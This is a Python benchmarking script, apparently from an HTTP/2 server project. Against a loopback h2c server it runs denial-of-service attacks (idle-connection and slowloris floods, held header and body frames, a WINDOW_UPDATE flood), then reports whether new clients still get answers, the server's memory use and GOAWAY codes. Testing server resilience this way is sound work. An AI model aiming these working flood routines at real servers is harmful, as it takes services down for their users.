#!/usr/bin/env python3
"""The attacks of issue 34 against any h2c server on loopback, to compare pushsim serve with
nghttpd (docs/http2.md, "Against hostile peers"). Not a test: it measures and prints.

    tools/attacks.py PORT PID ATTACK [--control PORT]

ATTACK: idle (5,000 silent connections), slowloris (2,000 connections sending a byte of the
preface every 0.1 s for 5 s), headers (1,000 connections, 100 streams each holding a 16 KB
header list), bodies (1,000 connections, 8 streams each holding 16 KiB of body), window
(one connection sending 1,000,000 WINDOW_UPDATEs of 1). Prints whether a new client was
answered during the attack (and on --control with HTTP/1.1), the server's VmRSS before and
during, and what the server sent the attacker (GOAWAY and its code).
"""
import socket, struct, sys, time, resource
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

SETTINGS = frame(4, 0, 0, b"")
SETTINGS_ACK = frame(4, 1, 0, b"")

def rss(pid):
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) // 1024
    return -1

def connect(port, timeout=10):
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s

def goaway_code(data):
    """The error code of the first GOAWAY in `data`, else None."""
    at = 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at:at + 3], "big")
        if data[at + 3] == 7 and at + 9 + 8 <= len(data):
            return int.from_bytes(data[at + 13:at + 17], "big")
        at += 9 + length
    return None

def legit_h2(port, path="/index.html"):
    """Whether a new HTTP/2 client gets its answer within 5 s."""
    try:
        s = connect(port, 5)
        enc = hpack.Encoder()
        block = enc.encode([(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "localhost")])
        s.sendall(PREFACE + SETTINGS + SETTINGS_ACK + frame(1, 5, 1, block))
        data = b""
        end = time.time() + 5
        while time.time() < end:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
            at = 0
            while at + 9 <= len(data):
                length = int.from_bytes(data[at:at + 3], "big")
                if at + 9 + length > len(data):
                    break
                kind, flags, stream = data[at + 3], data[at + 4], int.from_bytes(data[at + 5:at + 9], "big") & 0x7fffffff
                if stream == 1 and kind in (0, 1) and flags & 1:
                    s.close()
                    return True
                at += 9 + length
        s.close()
    except OSError:
        pass
    return False

def legit_h1(port):
    try:
        s = connect(port, 5)
        s.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
        data = s.recv(100)
        s.close()
        return data.startswith(b"HTTP/1.1 200")
    except OSError:
        return False

def check(port, control):
    answered = legit_h2(port)
    text = f"new HTTP/2 client answered: {answered}"
    if control:
        text += f"; control HTTP/1.1 answered: {legit_h1(control)}"
    return text

def main():
    port, pid, attack = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    control = int(sys.argv[sys.argv.index("--control") + 1]) if "--control" in sys.argv else None
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    before = rss(pid)
    held = []
    if attack == "idle":
        for i in range(5000):
            try:
                held.append(connect(control if control and i % 2 else port))
            except OSError:
                pass
        print(f"idle: {len(held)} connections;", check(port, control))
    elif attack == "slowloris":
        targets = [control if control and i % 2 else port for i in range(2000)]
        sockets = [None] * 2000
        sent = [0] * 2000
        start = time.time()
        results = []
        while time.time() - start < 5:
            for i in range(2000):
                try:
                    if sockets[i] is None:
                        sockets[i] = connect(targets[i], 1)
                        sent[i] = 0
                    sockets[i].send(PREFACE[min(sent[i], 20):min(sent[i], 20) + 1])
                    sent[i] += 1
                except OSError:
                    sockets[i] = None
            results.append(legit_h2(port))
            time.sleep(0.1)
        print(f"slowloris: new HTTP/2 clients answered {sum(results)} of {len(results)};", check(port, control))
        held = [s for s in sockets if s]
    elif attack in ("headers", "bodies"):
        big = ("x-held", "h" * 3990)
        for i in range(1000):
            try:
                s = connect(port)
            except OSError:
                continue
            enc = hpack.Encoder()
            out = PREFACE + SETTINGS + SETTINGS_ACK
            for n in range(100 if attack == "headers" else 8):
                stream = 2 * n + 1
                fields = [(":method", "POST"), (":scheme", "http"), (":path", "/index.html"), (":authority", "localhost")]
                if attack == "headers":
                    fields += [big] * 4
                out += frame(1, 4, stream, enc.encode(fields))
                if attack == "bodies":
                    out += frame(0, 0, stream, b"b" * 16384)
            try:
                s.sendall(out)
            except OSError:
                pass
            held.append(s)
        time.sleep(2)
        print(f"{attack}: {len(held)} connections; server VmRSS {before} MiB before, {rss(pid)} MiB during;", check(port, control))
    elif attack == "window":
        s = connect(port)
        s.sendall(PREFACE + SETTINGS + SETTINGS_ACK)
        update = frame(8, 0, 0, struct.pack(">I", 1))
        start, sent = time.time(), 0
        try:
            for _ in range(100):
                s.sendall(update * 10000)
                sent += 10000
        except OSError:
            pass
        s.settimeout(2)
        data = b""
        try:
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        print(f"window: {sent} WINDOW_UPDATEs sent in {time.time() - start:.1f} s; GOAWAY code {goaway_code(data)};", check(port, control))
        held = [s]
    for s in held:
        try:
            s.close()
        except OSError:
            pass

main()
